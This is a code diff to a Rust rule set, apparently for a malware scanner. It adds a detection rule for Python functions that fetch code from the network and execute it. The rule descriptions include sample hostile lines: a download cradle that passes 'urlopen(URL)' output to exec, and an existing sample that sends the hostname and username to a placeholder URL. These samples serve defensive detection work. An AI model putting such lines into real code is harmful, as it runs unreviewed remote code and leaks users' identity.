@@ -188,6 +188,16 @@ correlation!(
     "def ping(): urlopen(URL + '?h=' + socket.gethostname() + '&u=' + getpass.getuser())"
 );
 correlation!(
+    FUNCTION_FETCH_EXEC,
+    "correlate/function-fetch-then-execute",
+    Critical,
+    Execution,
+    Some("T1059.006"),
+    "One function fetches data from the network and executes dynamic code.",
+    "Downloading text and running it as code in one function is a download cradle: the code that runs is whatever the server sends that day, never what was reviewed.",
+    "def main(): code = urlopen(URL).read().decode(); exec(compile(code, 'x', 'exec'))"
+);
+correlation!(
     FUNCTION_DECODE_EXEC,
     "correlate/function-decode-then-execute",
     High,
@@ -211,6 +221,7 @@ correlation!(
 
 pub static ALL: &[&RuleInfo] = &[
     &FUNCTION_DROPPER,
+    &FUNCTION_FETCH_EXEC,
     &FUNCTION_RECON,
     &FUNCTION_DECODE_EXEC,
     &EXFILTRATION,
@@ -258,6 +269,9 @@ pub fn function_correlations(tags: &BTreeSet<String>) -> Vec<&'static RuleInfo> 
     if has("decode") && has("exec") {
         out.push(&FUNCTION_DECODE_EXEC);
     }
+    if has("network") && has("exec") {
+        out.push(&FUNCTION_FETCH_EXEC);
+    }
     out
 }
 
@@ -269,6 +283,7 @@ pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
         id if id == SETUP_NETWORK.id => &["network"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process"],
         id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
+        id if id == FUNCTION_FETCH_EXEC.id => &["exec", "network"],
         id if id == INSTALL_PROCESS.id => &["process"],
         id if id == INSTALL_EXEC.id || id == DECODE_EXEC.id => &["exec"],
         id if id == INSTALL_OVERRIDE.id => &["install-override"],
